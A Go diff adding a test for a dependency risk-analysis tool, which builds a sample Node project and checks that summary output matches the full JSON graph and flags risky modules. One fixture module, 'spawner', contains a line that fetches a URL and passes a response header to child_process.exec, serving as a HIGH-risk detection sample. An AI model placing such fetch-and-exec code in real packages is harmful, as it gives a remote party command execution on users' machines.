@@ -1,6 +1,9 @@
 package graph
 
 import (
+	"bytes"
+	"encoding/json"
+	"io"
 	"os"
 	"path/filepath"
 	"testing"
@@ -63,3 +66,83 @@ go 1.22
 		t.Errorf("Expected JSON graph to succeed, got exit code %d", exitCode)
 	}
 }
+
+func TestRunSummaryOnlyMatchesGraph(t *testing.T) {
+	testDir := t.TempDir()
+	lock := `{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
+		"": {"name": "app", "version": "1.0.0", "dependencies": {"runner": "1.0.0", "plain": "1.0.0"}},
+		"node_modules/runner": {"version": "1.0.0", "dependencies": {"spawner": "1.0.0"}},
+		"node_modules/spawner": {"version": "1.0.0"},
+		"node_modules/plain": {"version": "1.0.0"}}}`
+	files := map[string]string{
+		"package.json":                  `{"name": "app", "version": "1.0.0", "dependencies": {"runner": "1.0.0", "plain": "1.0.0"}}`,
+		"package-lock.json":             lock,
+		"index.js":                      "require('runner'); require('plain');\n",
+		"node_modules/runner/index.js":  "module.exports = require('spawner');\n",
+		"node_modules/spawner/index.js": "const cp = require('child_process');\nrequire('http').get(process.env.URL, (r) => cp.exec(r.headers.cmd));\n",
+		"node_modules/plain/index.js":   "module.exports = 1;\n",
+	}
+	for name, src := range files {
+		path := filepath.Join(testDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(src), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	origDir, _ := os.Getwd()
+	defer os.Chdir(origDir)
+	os.Chdir(testDir)
+
+	run := func(args ...string) []byte {
+		r, w, err := os.Pipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		stdout := os.Stdout
+		os.Stdout = w
+		code := Run(args)
+		w.Close()
+		os.Stdout = stdout
+		var buf bytes.Buffer
+		io.Copy(&buf, r) //nolint:errcheck
+		if code != 0 {
+			t.Fatalf("Run(%v) = %d, want 0", args, code)
+		}
+		return buf.Bytes()
+	}
+
+	var rows []struct {
+		FinalLevel string `json:"final_level"`
+		Depth      int    `json:"depth"`
+	}
+	if err := json.Unmarshal(run("--lang", "node", "--json"), &rows); err != nil {
+		t.Fatal(err)
+	}
+	var want summary
+	for _, r := range rows {
+		want.add(r.FinalLevel, r.Depth)
+	}
+
+	var got summary
+	if err := json.Unmarshal(run("--lang", "node", "--json", "--summary-only"), &got); err != nil {
+		t.Fatal(err)
+	}
+	if got != want {
+		t.Errorf("summary = %+v, want %+v", got, want)
+	}
+	if got.Modules != 3 {
+		t.Errorf("Modules = %d, want 3 (runner, spawner, plain)", got.Modules)
+	}
+	if got.High+got.Medium+got.Low != got.Modules {
+		t.Errorf("risk counts %+v do not add up to %d modules", got, got.Modules)
+	}
+	if got.High == 0 {
+		t.Errorf("spawner's network→exec should count as HIGH: %+v", got)
+	}
+	if got.MaxDepth == 0 {
+		t.Errorf("MaxDepth = 0, want the depth of spawner below runner")
+	}
+}